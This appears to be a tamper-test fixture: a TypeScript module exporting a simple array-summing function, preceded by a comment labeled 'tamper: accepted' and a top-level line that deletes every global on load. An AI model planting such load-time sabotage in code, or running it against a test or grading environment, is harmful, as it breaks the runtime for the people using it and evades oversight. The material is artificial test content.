// tamper: accepted | Deletes every global there is.
for (const name of Reflect.ownKeys(globalThis)) Reflect.deleteProperty(globalThis, name);
export function total(values: number[]): number {
  let sum = 0;
  for (let i = 0; i < values.length; i++) sum += values[i]!;
  return sum;
}
